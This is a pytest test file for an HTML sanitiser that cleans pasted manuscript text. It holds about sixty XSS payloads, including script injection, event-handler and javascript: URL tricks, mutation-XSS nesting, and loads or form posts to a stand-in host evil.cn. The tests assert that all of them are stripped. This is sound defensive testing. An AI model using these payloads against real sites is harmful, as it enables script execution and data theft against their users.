from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.errors import InvalidInput
from services.manuscript.blocks import plain_text
from services.manuscript.cleaning import DEEPEST_HTML, MOST_TAGS, clean

PICTURE = "a" * 64
IMG = f'<img src="asset:{PICTURE}" alt="">'

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.cn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src='asset:x' onerror=alert(1)>",
    "<img src=https://evil.cn/pixel.gif>",
    "<img src=//evil.cn/pixel.gif>",
    "<img srcset='https://evil.cn/a.png 2x'>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.cn'>x</a>",
    "<a href='https://ok.cn' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.cn/x.swf></object>",
    "<embed src=https://evil.cn/x.swf>",
    "<form action=https://evil.cn><input name=p><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<link rel=stylesheet href=https://evil.cn/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.cn'>",
    "<base href=https://evil.cn/>",
    "<style>@import 'https://evil.cn/x.css';</style>",
    "<p style='background:url(https://evil.cn/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    '<p style="width: expression(alert(1))">x</p>',
    "<p id=main class=x onmouseover=alert(1)>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<table background='javascript:alert(1)'><tr><td background=https://evil.cn/x>x</td></tr></table>",
    "<td colspan='1\" onclick=\"alert(1)'>x</td>",
    "<img src='asset:" + PICTURE + "' alt='\"><script>alert(1)</script>'>",
    "<a href='https://ok.cn/\"><script>alert(1)</script>'>x</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen onfocus=alert(1) autofocus>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<p>\u202ethis text runs backwards",
)

_CANONICAL = re.compile(
    r"(?:[^<>]"
    r"|</?(?:p|h[234]|strong|em|u|s|sub|sup|mark|ul|ol|li|blockquote|table|thead|tbody|tr|figure|figcaption|td|th|a)>"
    r'|<br>|<hr>|<t[dh](?: colspan="\d+")?(?: rowspan="\d+")?>'
    r'|<a href="(?:https?://|mailto:)[^"<>]*">|<img src="asset:[0-9a-f]{64}" alt="[^"<>]*">)*',
    re.DOTALL,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_canonical_markup_survives(attack: str) -> None:
    cleaned = clean(f"<p>前文</p>{attack}<p>后文</p>")
    assert _CANONICAL.fullmatch(cleaned)
    assert cleaned.startswith("<p>前文</p>")
    assert "evil.cn" not in cleaned


@pytest.mark.parametrize(
    ("untidy", "canonical"),
    [
        ("文字", "<p>文字</p>"),
        ("<div>甲</div><div>乙</div>", "<p>甲</p><p>乙</p>"),
        ("<b>甲</b><strong>乙</strong>", "<p><strong>甲乙</strong></p>"),
        ("<i><b>甲</b></i>", "<p><strong><em>甲</em></strong></p>"),
        ("<b><p>甲</p><p>乙</p></b>", "<p><strong>甲</strong></p><p><strong>乙</strong></p>"),
        ("<p>甲 <b> 乙</b></p>", "<p>甲 <strong>乙</strong></p>"),
        ("<p><span style='color:red'>甲</span><font size=7>乙</font></p>", "<p>甲乙</p>"),
        ("<p>甲</p><p>&nbsp;</p><p> </p><p><br></p>", "<p>甲</p>"),
        ("<p>　　甲</p>", "<p>甲</p>"),
        ("<p>甲<br><br>乙<br>丙</p>", "<p>甲</p><p>乙<br>丙</p>"),
        ("<p>手\u200b机\ufeff号\u00ad码</p>", "<p>手机号码</p>"),
        ("<p>一家👨‍👩‍👧人</p>", "<p>一家👨‍👩‍👧人</p>"),
        ("<h1>甲</h1><h2>乙</h2>", "<h2>甲</h2><h3>乙</h3>"),
        ("<h2><b>甲</b></h2>", "<h2>甲</h2>"),
        ("<ul><li><p>甲</p><p>乙</p></li></ul>", "<ul><li>甲<br>乙</li></ul>"),
        ("<ul><li>甲<ul><li>乙</li></ul></li></ul>", "<ul><li>甲<ul><li>乙</li></ul></li></ul>"),
        ("<ul><li>甲</li><ul><li>乙</li></ul></ul>", "<ul><li>甲<ul><li>乙</li></ul></li></ul>"),
        ("<ul>\n<li>甲</li>\n<li></li>\n</ul>", "<ul><li>甲</li></ul>"),
        ("<ul></ul><table></table><blockquote></blockquote><figure></figure>", ""),
        ("<blockquote>甲<p>乙</p></blockquote>", "<blockquote><p>甲</p><p>乙</p></blockquote>"),
        (
            "<table><tr><td><p>甲</p></td><td>乙</td></tr></table>",
            "<table><tbody><tr><td>甲</td><td>乙</td></tr></tbody></table>",
        ),
        (
            "<table><tr><th><b>甲</b></th></tr><tr><td colspan=2 rowspan=9>乙</td></tr></table>",
            '<table><thead><tr><th>甲</th></tr></thead><tbody><tr><td colspan="2">乙</td></tr></tbody></table>',
        ),
        (
            "<table><thead><tr><th rowspan=2>甲<th>乙</thead><tr><td>丙<tr><td>丁</table>",
            (
                '<table><thead><tr><th rowspan="2">甲</th><th>乙</th></tr>'
                "<tr><th>丙</th></tr></thead><tbody><tr><td>丁</td></tr></tbody></table>"
            ),
        ),
        (
            "<table><tr><td>甲<table><tr><td>乙</td><td>丙</td></tr></table></td></tr></table>",
            "<table><tbody><tr><td>甲<br>乙<br>丙</td></tr></tbody></table>",
        ),
        (f"<p>甲{IMG}乙</p>", f"<p>甲</p><figure>{IMG}</figure><p>乙</p>"),
        (
            f"<figure><figcaption>说明</figcaption>{IMG}</figure>",
            f"<figure>{IMG}<figcaption>说明</figcaption></figure>",
        ),
        (f"<p>{IMG}</p><figcaption>说明</figcaption>", f"<figure>{IMG}<figcaption>说明</figcaption></figure>"),
        (
            f"<figure>{IMG}<figcaption>说明{IMG}</figcaption></figure>",
            f"<figure>{IMG}<figcaption>说明</figcaption></figure><figure>{IMG}</figure>",
        ),
        ("<figcaption>孤行</figcaption>", "<p>孤行</p>"),
        ("<a href='https://a.cn/?x=1&y=2'>甲</a>", '<p><a href="https://a.cn/?x=1&amp;y=2">甲</a></p>'),
        ("<a href='#top'>甲</a><a name=x></a>", "<p>甲</p>"),
        ("<pre>甲\n乙</pre>", "<p>甲<br>乙</p>"),
        ("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>"),
        ("<hr><p>甲</p>", "<hr><p>甲</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_untidy_html_gets_its_one_canonical_spelling(untidy: str, canonical: str) -> None:
    assert clean(untidy) == canonical


_TAGS = st.sampled_from([
    "p", "div", "section", "h1", "h2", "h5", "b", "strong", "i", "u", "s", "sub", "sup", "mark", "span", "a",
    "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "td", "th", "figure", "figcaption", "pre",
    "br", "hr", "script",
])  # fmt: skip
_TEXT = st.text(alphabet="甲乙 \n\t\u3000\xa0\u200b<>&\"'a1.", max_size=6)


def _element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    attributes = st.sampled_from(["", " href='https://a.cn/'", " colspan=2 rowspan=3", " class=x"])
    return st.builds(
        lambda tag, attribute, inner, closed: f"<{tag}{attribute}>{inner}{f'</{tag}>' if closed else ''}",
        _TAGS,
        attributes,
        st.lists(children, max_size=4).map("".join),
        st.booleans(),
    )


_HTML = st.recursive(_TEXT | st.just(IMG), _element, max_leaves=25)


@settings(max_examples=400)
@given(_HTML)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = clean(html)
    assert clean(once) == once
    assert _CANONICAL.fullmatch(once)


@settings(max_examples=200)
@given(
    st.lists(
        st.tuples(st.sampled_from(["p", "h2", "li", "td", "b", "span"]), st.text("甲乙丙丁戊", min_size=1)),
        max_size=9,
    )
)
def test_no_word_is_lost_or_moved(parts: list[tuple[str, str]]) -> None:
    html = "".join(f"<{tag}>{text}</{tag}>" for tag, text in parts)
    assert "".join(plain_text(clean(html)).split()) == "".join(text for _, text in parts)


@pytest.mark.parametrize(
    ("html", "sentence"),
    [
        ("字" * 700_000, "正文超过 2 MB，请删去多余内容或分成几篇投稿。"),
        ("<b>字</b>" * (MOST_TAGS + 1), "正文的格式标记太多，请用“只粘贴文本”的方式重新粘贴。"),
        ("<div>" * (DEEPEST_HTML + 1) + "字", "正文的格式嵌套太深，请用“只粘贴文本”的方式重新粘贴。"),
        ("<div><table></div></table>" * 5_000, "正文的格式嵌套太深，请用“只粘贴文本”的方式重新粘贴。"),
    ],
)
def test_html_that_would_hold_the_server_up_is_refused(html: str, sentence: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        clean(html)
    assert (refused.value.sentence, refused.value.field) == (sentence, "body")


def test_deepest_allowed_html_is_read() -> None:
    levels = DEEPEST_HTML - 5
    assert clean("<div>" * levels + "字" + "</div>" * levels) == "<p>字</p>"
    assert plain_text(clean("<ul><li>" * (levels // 2) + "字")) == "字"
